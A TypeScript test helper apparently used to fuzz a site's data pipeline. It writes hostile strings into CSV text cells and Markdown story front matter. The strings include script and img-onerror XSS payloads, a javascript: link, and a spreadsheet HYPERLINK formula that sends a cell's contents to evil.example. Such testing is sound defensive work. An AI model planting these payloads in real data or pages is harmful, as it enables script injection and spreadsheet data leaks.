import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { formatCsv } from '../src/data/csv/csv.ts';
import { columnsOf, isTableName, type ColumnSpec } from '../src/schema/index.ts';
import { parseCsvText } from './published.ts';

/** What somebody may type, or paste, who means harm or does not know better. */
export const hostile = {
  script: '<script>window.hacked=1</script>',
  image: '"><img src=x onerror="window.hacked=1">',
  style: '</style></title></textarea><style>*{display:none}</style>',
  braces: '{process.env} ${process.env.HOME} {{constructor}}',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  plus: '+1-1|@SUM(A1)',
  link: 'javascript:window.hacked=1',
  quotes: `'单"双\`反 ‘’“”`,
  rightToLeft: '左\u202E右到左\u202C\u200F完',
  emoji: '👩‍👩‍👧‍👦🧓🏽🏳️‍🌈',
  rare: '𠮷𪚥𬺈',
  entity: '&lt;b&gt; &amp;amp; &#x3C;i&#x3E;',
  long: '长'.repeat(5_000),
} as const;

const texts: readonly string[] = Object.values(hostile);

/** Cells that rules hold to a form: they are refused before they reach a page. */
const formed = new Set([
  'as_written',
  'unit',
  'item_no',
  'code',
  'func_code',
  'table',
  'row',
  'column',
  'columns',
  'old_value',
  'new_value',
]);

/** Writes hostile text into the text cells of a data folder, a different one in each, names and titles included. Gives the number of cells. */
export function poison(folder: string): number {
  let count = 0;
  for (const file of readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) =>
    name.endsWith('.csv'),
  )) {
    const table = file.replace(/^.*[/\\]/, '').replace(/\.csv$/, '');
    if (!isTableName(table)) continue;
    const path = join(folder, file);
    const [head = [], ...records] = parseCsvText(readFileSync(path, 'utf8'));
    const byTitle = new Map(columnsOf(table).map(([key, column]) => [column.title, { key, column }]));
    const poisoned = records.map((cells, row) =>
      cells.map((cell, index) => {
        const found = byTitle.get(head[index] ?? '');
        if (cell === '' || found === undefined || formed.has(found.key) || !takes(found.column)) return cell;
        count += 1;
        return fitted(texts[(row + index) % texts.length] ?? '', found.column);
      }),
    );
    writeFileSync(path, formatCsv([head, ...poisoned]));
  }
  return count;
}

function takes(column: ColumnSpec): boolean {
  return column.type === 'text';
}

/** Keeps to the length that a column may have. Lists are parted by semicolons, so what goes into them has none. */
function fitted(text: string, column: ColumnSpec): string {
  if (column.type !== 'text') return text;
  const most = column.max ?? Infinity;
  const kept = column.list === true ? text.replaceAll(/[;；]/g, '') : text;
  return most === Infinity ? kept : Array.from(kept).slice(0, most).join('');
}

/** A story with hostile front matter, about a place and a station of the data. */
export function hostileStory(place: string, station: string): string {
  const matter = {
    title: `${hostile.script}${hostile.emoji}`,
    summary: `${hostile.image}${hostile.formula}`,
    place,
    station,
    method: '社区',
    period: hostile.style,
    anonymised: true,
    consent: '书面同意',
    consent_code: 'TY-2026-001',
    consent_expires: '2099-12-31',
    photo_policy: 'none',
    reviewer: hostile.braces,
  };
  const headings = ['当时的难处', '我们做了什么', '现在怎样', '花了多少', '还没解决的'];
  // JSON is YAML, and quotes everything that needs it.
  const head = Object.entries(matter).map(([key, value]) => `${key}: ${JSON.stringify(value)}`);
  return ['---', ...head, '---', '', ...headings.flatMap((heading) => [`## ${heading}`, '', '有话说。', ''])].join(
    '\n',
  );
}
